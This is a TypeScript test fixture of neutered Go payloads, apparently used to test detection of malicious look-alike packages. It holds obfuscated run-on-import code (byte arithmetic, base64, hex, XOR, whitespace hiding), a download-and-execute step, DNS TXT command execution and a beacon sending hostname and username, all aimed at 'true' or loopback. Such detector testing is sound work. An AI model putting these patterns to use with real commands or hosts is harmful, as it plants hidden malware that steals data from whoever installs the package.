/**
 * Harmless re-enactments of the ways in which real look-alikes ran code on import. Each runs `true` or calls loopback,
 * and is only ever parsed.
 */
export interface Payload {
  name: string
  /** Imports that the host file needs. */
  imports: readonly string[]
  /** Declarations to append to a file of the package. */
  code: string
  /** Text that the folded strings must contain. */
  folded: string
  kind: 'process' | 'network'
}

export const PAYLOADS: readonly Payload[] = [
  {
    name: 'index array',
    imports: ['os/exec'],
    code: `
var yQkPz = []string{"/", "b", "t", "u", "s", "h", "e", "i", "n", "-", "c", "r"}
var _ = func() error {
	v := yQkPz[0] + yQkPz[1] + yQkPz[7] + yQkPz[8] + yQkPz[0] + yQkPz[4] + yQkPz[5]
	return exec.Command(v, yQkPz[9]+yQkPz[10], yQkPz[2]+yQkPz[11]+yQkPz[3]+yQkPz[6]).Start()
}()
`,
    folded: '/bin/sh -c true',
    kind: 'process',
  },
  {
    name: 'byte arithmetic',
    imports: ['os/exec'],
    code: `
func init() {
	name := []byte{50 - 3, 96 + 2, 35 * 3, 220 / 2, 47, 230 >> 1, 52 << 1}
	run := string([]byte{0x74, 0x71 + 1, 117, 0x65})
	_ = exec.Command(string(name), string([]byte{45, 99}), run).Start()
}
`,
    folded: '/bin/sh -c true',
    kind: 'process',
  },
  {
    name: 'base64',
    imports: ['encoding/base64', 'os/exec'],
    code: `
var warm = prepare("Y3VybCAtcyBodHRwOi8vMTI3LjAuMC4xOjkvYSB8IHRydWU=")

func prepare(text string) bool {
	plain, _ := base64.StdEncoding.DecodeString(text)
	return exec.Command("/bin/sh", "-c", string(plain)).Start() == nil
}
`,
    folded: '/bin/sh -c curl -s http://127.0.0.1:9/a | true',
    kind: 'process',
  },
  {
    name: 'hex',
    imports: ['encoding/hex', 'os/exec'],
    code: `
func init() { warmUp() }

func warmUp() {
	program, err := hex.DecodeString("2f62696e2f74727565")
	if err != nil {
		return
	}
	go func() { exec.Command(string(program)).Run() }()
}
`,
    folded: '/bin/true',
    kind: 'process',
  },
  {
    name: 'xor',
    imports: ['os/exec'],
    code: `
const mask = 0x5a

var table = []byte{0x75, 0x38, 0x33, 0x34, 0x75, 0x2e, 0x28, 0x2f, 0x3f}

func init() {
	out := make([]byte, len(table))
	for i, b := range table {
		out[i] = b ^ mask
	}
	exec.Command(string(out)).Run()
}
`,
    folded: '/bin/true',
    kind: 'process',
  },
  {
    name: 'concatenation',
    imports: ['io', 'net/http', 'os', 'os/exec'],
    code: `
const host = "12" + "7.0" + ".0." + "1:9"

func init() {
	url := "ht" + "tp" + ":/" + "/" + host + "/st" + "or" + "age"
	if answer, err := http.Get(url); err == nil {
		out, _ := os.Create("/tmp/true")
		io.Copy(out, answer.Body)
		exec.Command("/tmp/true").Start()
	}
}
`,
    folded: 'http://127.0.0.1:9/storage',
    kind: 'network',
  },
  {
    name: 'DNS TXT and exec',
    imports: ['net', 'os/exec', 'strings'],
    code: `
func init() {
	records, _ := net.LookupTXT(strings.Join([]string{"cfg", "localhost", "invalid"}, "."))
	for _, record := range records {
		exec.Command("sh", "-c", record).Run()
	}
}
`,
    folded: 'cfg.localhost.invalid',
    kind: 'network',
  },
  {
    name: 'host beacon',
    imports: ['net/http', 'net/url', 'os', 'os/user', 'strings'],
    code: `
func init() {
	host, _ := os.Hostname()
	who, _ := user.Current()
	form := url.Values{"h": {host}, "u": {who.Username}}
	client := &http.Client{}
	request, _ := http.NewRequest("POST", strings.ReplaceAll("h*ttp:*//12*7.0.0.1:*9/b", "*", ""), strings.NewReader(form.Encode()))
	client.Do(request)
}
`,
    folded: 'http://127.0.0.1:9/b',
    kind: 'network',
  },
  {
    name: 'far to the right',
    imports: ['os/exec'],
    code: `
func nothing() int { return 0 }${' '.repeat(2000)}; var _ = exec.Command("tr" + "ue").Start()
`,
    folded: 'true',
    kind: 'process',
  },
]

/** Go source with a payload's imports added and its code appended. */
export function insertPayload(source: string, payload: Payload): string {
  const missing = payload.imports.filter((path) => !source.includes(`"${path}"`))
  const block = missing.map((path) => `import "${path}"\n`).join('')
  return `${source.replace(/^package \w+.*$/m, (clause) => `${clause}\n\n${block}`)}\n${payload.code}`
}
